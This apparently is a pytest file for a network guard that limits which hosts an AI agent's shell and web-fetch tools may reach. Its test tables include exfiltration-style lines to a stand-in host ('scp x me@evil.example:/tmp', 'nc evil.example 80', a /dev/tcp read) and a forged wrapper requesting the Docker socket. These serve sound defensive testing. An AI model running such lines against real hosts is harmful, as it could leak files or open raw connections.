"""Which hosts lines and web tools may reach: what is held, what is asked once, and which hosts a project uses."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path
from typing import Any

import pytest

from hookline import Hooks
from hookline.errors import HookError
from hookline.events import PreToolUse
from hookline.guards import network, paths, sandboxing
from hookline.guards.network import hosts_in_use
from hookline.replies import Decision
from hookline.sandbox.main import parse

HELD = pytest.mark.skipif(bool(sandboxing.unavailable()), reason=sandboxing.unavailable() or "lines can be held")


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "project").mkdir()
    return tmp_path / "project"


def bash(line: str, project: Path, call: str = "t1") -> PreToolUse:
    return PreToolUse(cwd=str(project), tool_name="Bash", tool_use_id=call, tool_input={"command": line})


@HELD
async def test_a_line_is_held_to_hosts_besides_folders(project: Path) -> None:
    """Two guards, one confinement; a socket that the line's own text asks for is not granted."""
    hooks = Hooks()
    hooks.add(paths.stay_inside(project, confine="auto"))
    hooks.add(network.only(["pypi.org", "*.example.com:443"], sockets=["/run/agent"], confine="auto"))
    verdict = await hooks.fire(bash("curl -s https://pypi.org", project))
    assert verdict.input is not None
    found = sandboxing.unwrapped(verdict.input["command"])
    assert found is not None
    forged = sandboxing.wrapped("ls", parse(["--write", ".", "--socket", "/run/docker.sock", "--", "x"])[0])
    again = await hooks.fire(bash(forged, project, "t2"))
    assert again.input is not None
    other = sandboxing.unwrapped(again.input["command"])
    assert other is not None

    assert (found[0].hosts, found[0].sockets) == (("pypi.org", "*.example.com:443"), ("/run/agent",))
    assert found[0].write
    assert other[0].sockets == ("/run/agent",)


@HELD
async def test_a_refused_host_is_asked_about_once(project: Path) -> None:
    """With the next line; a yes is known by the line having run, and holds from then on."""
    hooks = Hooks()
    hooks.add(network.only(["pypi.example"], ask_for_others=True, confine="auto"))

    async def fired(line: str, call: str) -> tuple[Decision, tuple[str, ...]]:
        verdict = await hooks.fire(bash(line, project, call))
        assert verdict.input is not None
        found = sandboxing.unwrapped(verdict.input["command"])
        assert found is not None
        command = ["bash", "-c", verdict.input["command"]]
        await asyncio.to_thread(subprocess.run, command, cwd=project, capture_output=True, check=False)
        return verdict.decision, found[0].hosts

    first = await fired("getent hosts other.example", "c1")
    second = await fired("echo asked", "c2")
    third = await fired("echo later", "c3")

    assert first == (Decision.PASS, ("pypi.example",))
    assert second == (Decision.ASK, ("pypi.example", "other.example"))
    assert third == (Decision.PASS, ("pypi.example", "other.example"))


async def test_without_confinement_the_text_is_judged(project: Path) -> None:
    """A web tool's address is denied, a line that names another host is asked about."""
    hooks = Hooks()
    hooks.add(network.only(["pypi.org", "git.example.com:22"], confine="off"))
    rows = {
        "curl https://pypi.org/simple": Decision.PASS, "curl https://evil.example/x": Decision.ASK, "ls": Decision.PASS,
        "git clone git@git.example.com:a/b": Decision.PASS, "scp x me@evil.example:/tmp": Decision.ASK,
        "curl http://pypi.org:8080/": Decision.ASK, "curl https://user:x@evil.example": Decision.ASK,
    }  # fmt: skip
    found = {line: (await hooks.fire(bash(line, project))).decision for line in rows}
    fetch = PreToolUse(
        tool_name="WebFetch", tool_input={"url": "https://evil.example/", "prompt": "x"}, cwd=str(project)
    )

    assert found == rows
    note = PreToolUse(
        tool_name="Write", tool_input={"file_path": "a", "content": "https://evil.example/"}, cwd=str(project)
    )

    assert (await hooks.fire(fetch)).decision is Decision.DENY
    assert (await hooks.fire(note)).decision is Decision.PASS


@pytest.mark.parametrize("tool, given, expected", [
    ("Write", {"file_path": "package.json", "content": '{"repository": {"url": "https://evil.example"}}'}, "pass"),
    ("Edit", {"file_path": "a", "old_string": "{}", "new_string": '{"url": "https://evil.example"}'}, "pass"),
    ("Task", {"description": "x", "prompt": '{"url": "https://evil.example"}'}, "pass"),
    ("mcp__web__fetch", {"urls": ["https://evil.example"]}, "deny"),
    ("mcp__web__fetch", {"request": {"url": "https://evil.example"}}, "deny"),
    ("mcp__web__fetch", {"args": '{"url": "https://evil.example"}'}, "deny"),
])  # fmt: skip
async def test_what_is_written_is_no_address_that_is_reached(tool: str, given: dict[str, Any], expected: str) -> None:
    """JSON in a file or for people may hold any address; JSON that a tool is called with may not."""
    hooks = Hooks()
    hooks.add(network.only(["pypi.org"], confine="off"))

    assert str((await hooks.fire(PreToolUse(tool_name=tool, tool_input=given))).decision) == expected


@pytest.mark.parametrize("line, expected", [
    ("curl -s evil.example/x", "ask"),
    ("wget EVIL.example", "ask"),
    ("ssh u@evil.example ls", "ask"),
    ("rsync a evil.example:b", "ask"),
    ("nc evil.example 80", "ask"),
    ("bash -c 'cat < /dev/tcp/evil.example/80'", "ask"),
    ("h=evil.example; curl http://$h/", "ask"),
    ("curl -s pypi.org/simple", "pass"),
    ("echo evil.example", "pass"),
    ("curl file:///etc/hostname", "pass"),
    ("git commit -m 'as evil.example does'", "pass"),
    ("aws s3 ls s3://bucket", "pass"),
])  # fmt: skip
async def test_a_line_is_judged_by_the_hosts_that_its_programs_are_given(line: str, expected: str) -> None:
    """Where it cannot be confined: a host has no scheme before it in most of them."""
    hooks = Hooks()
    hooks.add(network.only(["pypi.org"], confine="off"))

    assert str((await hooks.fire(PreToolUse(tool_name="Bash", tool_input={"command": line}))).decision) == expected


@pytest.mark.parametrize("hosts", [[], ["http://x"], ["*"]])
def test_hosts_that_cannot_be_read_are_refused_at_registration(hosts: list[str]) -> None:
    with pytest.raises(HookError):
        network.only(hosts)


def test_the_hosts_in_use_are_those_that_are_configured(project: Path, tmp_path: Path) -> None:
    """Registries by the kind of project and by configuration, code hosts by remotes."""
    home = tmp_path / "home"
    (home / ".config/pip").mkdir(parents=True)
    (home / ".config/pip/pip.conf").write_text("[global]\nindex-url = https://me:x@pypi.corp.example:8443/simple\n")
    (project / ".npmrc").write_text("registry=https://npm.corp.example/\n; see https://docs.example\n")
    (project / "package.json").write_text("{}")
    (project / ".git").mkdir()
    remotes = (
        '[remote "origin"]\n\turl = git@github.com:a/b.git\n[remote "https"]\n\turl = https://git.corp.example/a\n'
    )
    (project / ".git" / "config").write_text("[core]\n\tbare = false\n" + remotes)

    assert hosts_in_use(str(project), {"HOME": str(home), "PIP_EXTRA_INDEX_URL": "https://more.example/s"}) == [
        "registry.npmjs.org", "npm.corp.example", "pypi.corp.example:8443", "more.example", "github.com:22",
        "git.corp.example", "api.github.com", "codeload.github.com", "objects.githubusercontent.com",
    ]  # fmt: skip
